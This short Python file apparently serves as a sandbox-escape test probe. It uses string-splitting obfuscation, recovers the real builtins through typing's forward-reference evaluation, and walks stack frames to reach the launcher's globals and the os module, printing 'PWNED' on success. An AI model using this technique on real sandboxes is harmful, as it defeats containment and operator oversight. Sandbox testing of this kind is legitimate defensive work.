# frame: dataclasses.inspect by a computed name; inspect.currentframe() reads the frame from inspect's own code
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import dataclasses
ins = ga(dataclasses, "insp" + "ect")
try:
    f = ins.currentframe()
    while f is not None:
        fg = ga(f, "f_glob" + "als")
        if "install_policy" in fg:
            print(M, "launcher frame via inspect", fg["o" + "s"].getpid())
            break
        f = ga(f, "f_ba" + "ck")
except Exception as e:
    print("refused:", type(e).__name__, e)
